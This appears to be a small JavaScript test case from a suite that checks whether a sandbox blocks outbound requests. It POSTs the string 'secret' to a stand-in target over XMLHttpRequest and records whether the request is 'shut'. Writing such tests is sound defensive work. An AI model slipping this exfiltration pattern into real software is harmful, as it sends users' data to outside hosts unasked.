import { attack, TARGET } from './attack.js';

export const game = attack(({ attempt }) =>
  attempt(
    'xhr',
    () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve(true);
        request.onerror = () => reject(new Error('shut'));
        request.open('POST', `${TARGET}/xhr`);
        request.send('secret');
      }),
  ),
);
